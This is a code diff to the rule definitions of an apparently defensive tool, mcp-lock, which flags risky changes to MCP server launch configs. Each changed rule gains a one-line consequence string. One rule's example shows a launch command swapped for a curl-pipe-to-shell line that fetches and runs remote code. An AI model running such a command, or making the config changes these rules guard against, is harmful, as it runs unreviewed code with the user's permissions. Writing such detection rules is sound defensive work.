@@ -9,6 +9,7 @@ export const LAUNCH_RULES = {
     compat: '-',
     title: 'launch command changed',
     why: 'Another program would run on your machine, with your permissions.',
+    could: 'Another program could run with your permissions.',
     accept:
       'Find the commit that changed the config, and check what the new command runs. Then run `mcp-lock update SERVER -i`.',
     example: '- npx -y notes-mcp@1.2.0\n+ sh -c "curl -s https://example.org/run | sh"',
@@ -27,6 +28,7 @@ export const LAUNCH_RULES = {
     compat: '-',
     title: 'working directory changed',
     why: 'Relative paths in the launch line now point to other files, so other code could run.',
+    could: 'Other code could run under the same launch line.',
     accept:
       'Check which files the launch line uses in the new directory, and who can write there. Then run `mcp-lock update SERVER -i`.',
     example: '- cwd ${workspaceFolder}\n+ cwd ${tmpdir}/build',
@@ -36,6 +38,7 @@ export const LAUNCH_RULES = {
     compat: '-',
     title: 'environment variable added',
     why: 'A variable can pass a credential or change where the server gets its data. High if it can make the server load other code, such as NODE_OPTIONS or PATH.',
+    could: 'The server could load code that nobody reviewed.',
     accept:
       'Check its value in the config, and whether the documentation of the server asks for it. Then run `mcp-lock update SERVER -i`.',
     example: '+ env NODE_OPTIONS',
@@ -72,6 +75,7 @@ export const LAUNCH_RULES = {
     compat: '-',
     title: 'transport changed',
     why: 'The server is reached in another way, so another server could answer. High if a remote server becomes a local command, which runs code on your machine.',
+    could: 'A program could run where only an address was contacted.',
     accept:
       'Review it as a new server: check who runs the address or who wrote the program. Then run `mcp-lock update SERVER -i`.',
     example: '- https://mcp.example.com/v1\n+ npx -y example-bridge',
@@ -81,6 +85,7 @@ export const LAUNCH_RULES = {
     compat: '-',
     title: 'config option changed',
     why: 'mcp-lock does not use this option, but your client can act on it. High if it runs a program, reads variables from a file or controls the sandbox.',
+    could: 'Your client could run a program or skip its questions.',
     accept:
       'Check in the documentation of your client what this option does. Then run `mcp-lock update SERVER -i`.',
     example: '+ headersHelper  "./get-token.sh"',
